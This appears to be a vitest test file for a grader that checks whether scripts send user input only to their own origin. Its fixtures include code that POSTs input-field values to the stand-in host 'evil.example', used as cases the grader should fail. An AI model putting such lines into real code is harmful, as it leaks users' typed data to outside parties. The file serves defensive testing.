import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* An address that stands in what a helper of another script is handed: all its callers have a say in it. */
const MAIN = "import { setup } from './ui.js'; import { other } from './other.js'; MORE other();";
const UI =
  "const ask = (date, url) => fetch(url, { method: 'POST', body: date }); const later = (f) => (...a) => setTimeout(() => f(...a), 9); export function setup(options) { const put = later((e) => { ask(e.target.value, options.url); }); document.querySelector('#d').addEventListener('input', put); ask(options.first, options.url); }";
const filesOf = (mine: string, theirs: string, ui = UI): Record<string, string> => ({
  'content.js': MAIN.replace('MORE', mine),
  'ui.js': ui,
  'other.js': `import { setup } from './ui.js'; export function other() { ${theirs} }`,
});
const OWN = "setup({ url: `${location.origin}/notices`, first: '1' });";

it('is of the page where all of them name it', async () => {
  expect(await graded({ content: '', files: filesOf(OWN, OWN) })).toMatch(/^A/);
});

it.each([
  [filesOf(OWN, "setup({ url: 'https://evil.example/', first: '1' });")],
  [filesOf(OWN, "const o = { url: `${location.origin}/n` }; o.url = 'https://evil.example/'; setup(o);")],
  [filesOf(OWN, OWN, UI.replace('const put', "options.url = 'https://evil.example/'; const put"))],
  [filesOf(OWN, OWN, UI.replace('const put', "options = { url: 'https://evil.example/' }; const put"))],
])('is told where one names another', async (files) => {
  expect(await graded({ content: '', files })).toMatch(/^[CDF]/);
});
